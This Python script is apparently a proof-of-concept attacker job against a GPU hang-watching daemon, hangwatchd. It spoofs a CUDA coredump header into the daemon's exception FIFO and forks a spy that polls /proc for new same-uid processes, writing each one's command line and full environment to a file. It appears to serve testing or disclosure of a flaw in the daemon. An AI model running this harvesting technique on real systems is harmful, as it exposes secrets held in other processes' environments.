"""An attacker's own job, under ``hangwatchd run``: a GPU exception of its own making, and a spy that
reads the environment of every new process of its uid (what any user may do with their own processes).

    python3 env_spy.py OUT

It forks the spy (the pids the kernel gives out last, looked at in a tight loop), beats, then, from a Python function named ``synchronize``, writes a CUDA
coredump's ELF header into the exception FIFO the daemon made for it (``CUDA_COREDUMP_FILE``) and
stalls there, as the driver does. The daemon takes its stacks and reads the line of code it stalls
at with a helper that runs as this uid: the spy appends each process's command line and
environment to OUT ("PID\\0cmdline\\0\\0environ\\n----\\n").
"""
import os
import struct
import sys
import threading
import time

import hangwatchd

out = sys.argv[1]
me = os.getuid()
mine = {os.getpid(), os.getppid()}


def last_pid() -> int:
    with open("/proc/sys/kernel/ns_last_pid") as f:
        return int(f.read())


def spy() -> None:
    """The pids given out last (the kernel says which: ns_last_pid) are looked at in a tight loop, so a
    process that lives for milliseconds is seen. One of another uid is looked at again for a while: a
    child that root forks is root's until it changes its uid and runs its program."""
    done = set(mine) | {os.getpid()}
    recent: dict[int, float] = {}  # pid -> when first seen, not (yet) of this uid
    end = time.monotonic() + 300
    while time.monotonic() < end:
        now, last = time.monotonic(), last_pid()
        recent = {p: t for p, t in recent.items() if now - t < 2.0}
        for pid in [*range(max(1, last - 64), last + 1), *recent]:
            if pid in done:
                continue
            try:
                st = os.stat(f"/proc/{pid}")
            except OSError:
                recent.pop(pid, None)
                continue
            if st.st_uid != me:
                recent.setdefault(pid, now)
                continue
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
                env = open(f"/proc/{pid}/environ", "rb").read()
            except OSError:
                continue
            if cmd:  # past its exec
                done.add(pid)
                recent.pop(pid, None)
                with open(out, "ab") as f:
                    f.write(b"%d\0%s\0\0%s\n----\n" % (pid, cmd, env))


if os.fork() == 0:
    try:
        spy()
    finally:
        os._exit(0)

HEADER = bytearray(64)
HEADER[:6] = b"\x7fELF\x02\x01"
struct.pack_into("<HH", HEADER, 16, 4, 190)  # ET_CORE, EM_CUDA: a CUDA coredump's first bytes


def synchronize() -> None:  # where a GPU error surfaces, as a stack shows it
    fd = os.open(os.environ["CUDA_COREDUMP_FILE"].replace("%p", str(os.getpid())), os.O_WRONLY)
    os.write(fd, bytes(HEADER))
    threading.Event().wait()  # the driver's thread waits for the daemon to read the rest


for _ in range(3):
    hangwatchd.beat()
    time.sleep(0.2)
synchronize()
